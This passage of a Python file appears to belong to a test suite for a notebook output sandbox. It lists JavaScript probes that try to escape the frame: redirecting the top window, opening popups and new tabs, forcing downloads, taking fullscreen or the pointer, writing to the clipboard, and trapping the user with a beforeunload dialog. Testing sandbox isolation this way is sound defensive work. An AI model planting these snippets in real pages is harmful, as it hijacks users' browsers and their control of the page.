    leave("base-target", "A base that aims links at the notebook", "document.head.append(Object.assign(document.createElement('base'), {target: '_top'})); add('a', {href: `${AWAY}/${NAME}`}).click()", "sandbox"),
    leave("open-top", "window.open into the notebook", "open(`${AWAY}/${NAME}`, '_top')", "sandbox"),
    leave("history", "Send the notebook back", "history.go(-1); await pause(300)", "sandbox"),
    leave("close-top", "Close the notebook", "top.close()", "not opened by a script", unproved="a page may close only what it opened"),
]  # fmt: skip

CLICKS = [
    click("popup", "Open a window", "open(`${AWAY}/${NAME}`)"),
    click("popup-noopener", "Open a window that does not know it", "open(`${AWAY}/${NAME}`, '_blank', 'noopener')"),
    click("popup-link", "A link into a new tab", "add('a', {href: `${AWAY}/${NAME}`, target: '_blank'}).click()"),
    click("popup-form", "A form into a new tab", "add('form', {action: `${AWAY}/${NAME}`, target: '_blank'}).submit()"),
    click("popup-blank", "A blank window that goes elsewhere", "open('about:blank').location = `${AWAY}/${NAME}`"),
    click("top-click", "Take the notebook elsewhere", "top.location = `${AWAY}/${NAME}`"),
    click("download", "Save a file", "add('a', {href: URL.createObjectURL(new Blob(['x'])), download: NAME}).click()"),
    click("download-data", "Save a file from a data: address", "add('a', {href: 'data:text/plain,x', download: NAME}).click()"),
    click("fullscreen", "Cover the screen", "await document.documentElement.requestFullscreen(); return document.fullscreenElement", "permissions policy"),
    click("pointer-lock", "Take the pointer", "await document.body.requestPointerLock(); return document.pointerLockElement"),
    click("clipboard-click", "Write to the clipboard", "await navigator.clipboard.writeText(NAME); return true", "permissions policy", "asks the person in a plain frame"),
    click("print", "Print the notebook", "window.print()", unproved="prints nothing without a screen"),
    click("before-unload", "Hold the person back with a dialog", "addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = NAME })"),
]  # fmt: skip

ATTACKS = [*REACHES, *JUPYTER, *LOADS, *WORKERS, *MODULES, *LINKS, *DRAWINGS, *LEAVES, *CLICKS]
